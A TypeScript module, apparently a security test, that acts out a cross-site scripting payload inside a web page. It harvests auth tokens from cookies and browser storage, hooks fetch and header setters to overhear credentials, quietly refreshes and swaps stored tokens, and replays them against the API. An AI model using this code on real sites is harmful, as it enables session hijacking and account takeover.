/**
 * What a cross-site scripting hole lets in. It imports nothing of the page and uses nothing but what every script has:
 * globals, the DOM, and fetch with the browser's cookies.
 */
export interface Loot {
  /** The names of what lay in cookies and storage, and held no token. */
  readonly harmless: readonly string[];
  /** Found lying about. */
  readonly found: Tokens;
  /** Heard in passing, in so many requests. */
  readonly heard: Tokens & { readonly requests: number };
  /** Asked for. */
  readonly minted: Tokens & { readonly status: number };
  /** How the server answered a change, made from within the page. */
  readonly rode: number;
  /** How it answered what was stolen when no cookie came along, as from another computer. */
  readonly alone: number;
}

export interface Tokens {
  readonly access?: string;
  readonly refresh?: string;
}

export async function attack(): Promise<Loot> {
  const found = search();
  const heard = await listen();
  const minted = await mint(found);
  const access = minted.access ?? heard.access ?? found.access;
  return {
    harmless: document.cookie.split("; ").filter(Boolean).map((cookie) => cookie.split("=")[0]!),
    found,
    heard,
    minted,
    rode: (await change(access)).status,
    alone: (await fetch("/api/profile", { credentials: "omit", headers: bearer(access) })).status,
  };
}

function search(): Tokens {
  return tokensIn([document.cookie, ...Object.values({ ...localStorage }), ...Object.values({ ...sessionStorage })].join("\n"));
}

function tokensIn(text: string): Tokens {
  const [, access] = /"accessToken":"([^"]+)"/.exec(text) ?? [];
  const [, refresh] = /"refreshToken":"([^"]+)"/.exec(text) ?? [];
  return { ...(access && { access }), ...(refresh && { refresh }) };
}

/** Puts itself in front of what the page sends and is answered, and makes the page send something. */
async function listen(): Promise<Loot["heard"]> {
  const { fetch: original } = globalThis;
  const { set } = Headers.prototype;
  let heard: Loot["heard"] = { requests: 0 };
  const overhear = (name: string, value: string) => {
    if (/^authorization$/i.test(name)) heard = { ...heard, access: value.replace(/^\S+ /, "") };
  };
  const done = new Promise<void>((resolve) => {
    setTimeout(resolve, 2_000);
    globalThis.fetch = async (input, init) => {
      const request = new Request(input, init);
      request.headers.forEach((value, name) => overhear(name, value));
      const answer = await original(request);
      heard = { ...heard, ...tokensIn(await answer.clone().text()), requests: heard.requests + 1 };
      setTimeout(resolve, 50);
      return answer;
    };
    Headers.prototype.set = function (name, value) {
      overhear(name, value);
      set.call(this, name, value);
    };
  });
  try {
    document.querySelector<HTMLElement>("[data-testid=reload-sessions]")?.click();
    await done;
    return heard;
  } finally {
    globalThis.fetch = original;
    Headers.prototype.set = set;
  }
}

/** Fresh ones. What the page has is put back in order afterwards, so that nobody notices. */
async function mint({ refresh }: Tokens): Promise<Loot["minted"]> {
  const body = refresh && JSON.stringify({ refreshToken: refresh });
  const answer = await fetch("/auth/refresh", {
    method: "POST",
    ...(body ? { body, credentials: "omit", headers: { "Content-Type": "application/json" } } : { headers: await csrf() }),
  });
  const minted = tokensIn(await answer.text());
  for (const key of minted.refresh ? Object.keys(localStorage) : []) {
    const kept = localStorage.getItem(key)!;
    const old = tokensIn(kept);
    if (!old.refresh || !old.access) continue;
    localStorage.setItem(key, kept.replace(old.refresh, minted.refresh!).replace(old.access, minted.access!));
  }
  return { ...minted, status: answer.status };
}

/** Changes nothing after all: what is not named stays as it is. */
async function change(access: string | undefined): Promise<Response> {
  const headers = { "Content-Type": "application/json", ...(access ? bearer(access) : await csrf()) };
  return fetch("/api/profile", { method: "POST", headers, body: "{}" });
}

async function csrf(): Promise<Record<string, string>> {
  const answer = (await (await fetch("/auth/session")).json()) as { csrf?: { header: string; token: string } };
  return answer.csrf ? { [answer.csrf.header]: answer.csrf.token } : {};
}

function bearer(access: string | undefined): Record<string, string> {
  return access ? { Authorization: `JWT ${access}` } : {};
}
